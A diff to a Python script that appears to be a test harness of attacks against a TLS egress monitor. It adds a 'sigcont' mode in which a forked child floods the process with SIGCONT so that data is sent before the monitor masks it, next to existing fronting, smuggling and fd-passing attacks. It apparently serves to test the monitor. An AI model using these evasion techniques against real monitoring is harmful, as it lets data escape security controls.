@@ -33,6 +33,10 @@ Attacks:
             application data holding TEXT is written on the socket past the
             TLS library (req 1: no probe saw it; "status" 0 when it left,
             "error" when the kernel refused it)
+  sigcont   --data A --data B --count N: A once; then a child process
+            sends SIGCONT to this one without pause while it sends B N
+            times (a new connection after each failure): a writer stopped
+            for aspend to mask its buffer, resumed before it was masked
   unlearned --data A --front NAME: HOST is an address no provider has;
             SNI and Host name NAME (a provider); two connections, --wait
             seconds apart (the first one asks for the process's probes)
@@ -41,6 +45,7 @@ Attacks:
 import argparse
 import json
 import os
+import signal
 import socket
 import sys
 import threading
@@ -335,6 +340,42 @@ def wantwrite(args, ssl):
     emit(attack="wantwrite-tries", tries=tries[0])
 
 
+def sigcont(args, ssl):
+    ctx = ssl.create_default_context()
+    conn = [None]
+
+    def one(body):
+        if conn[0] is None:
+            conn[0] = tls_connect(args.host, ctx)
+        try:
+            conn[0].sendall(request_bytes(args.host, body))
+            st = read_status(conn[0], 1)
+        except Exception:
+            st = None
+        if not st:  # denied: the connection is cut
+            conn[0].close()
+            conn[0] = None
+            raise ConnectionError("the connection was cut")
+        return st[0]
+    attempt("sigcont-first", 0, lambda: one(args.data[0]))
+    parent = os.getpid()
+    child = os.fork()
+    if child == 0:
+        end = time.monotonic() + 60
+        while time.monotonic() < end:
+            try:
+                os.kill(parent, signal.SIGCONT)
+            except ProcessLookupError:
+                break
+        os._exit(0)
+    try:
+        for req in range(1, args.count + 1):
+            attempt("sigcont", req, lambda: one(args.data[1]))
+    finally:
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
+
+
 def unlearned(args, ssl):
     fronting(args, ssl, "unlearned", 0)
     time.sleep(args.wait)
@@ -344,7 +385,7 @@ def unlearned(args, ssl):
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("attack", choices=["pipeline", "thread", "fork", "late-tls", "decoys",
-                                       "fronting", "unlearned", "fdpass", "wantwrite"])
+                                       "fronting", "unlearned", "fdpass", "wantwrite", "sigcont"])
     ap.add_argument("host")
     ap.add_argument("--data", action="append", default=[])
     ap.add_argument("--wait", type=float, default=1.5)
@@ -354,6 +395,7 @@ def main():
     ap.add_argument("--smuggle", default="")
     ap.add_argument("--pad", type=int, default=0)
     ap.add_argument("--release")
+    ap.add_argument("--count", type=int, default=1)
     args = ap.parse_args()
     if args.attack == "late-tls":
         return late_tls(args)
@@ -361,7 +403,8 @@ def main():
         return decoys(args)
     import ssl
     {"pipeline": pipeline, "thread": thread, "fork": fork, "fronting": fronting,
-     "unlearned": unlearned, "fdpass": fdpass, "wantwrite": wantwrite}[args.attack](args, ssl)
+     "unlearned": unlearned, "fdpass": fdpass, "wantwrite": wantwrite,
+     "sigcont": sigcont}[args.attack](args, ssl)
 
 
 if __name__ == "__main__":
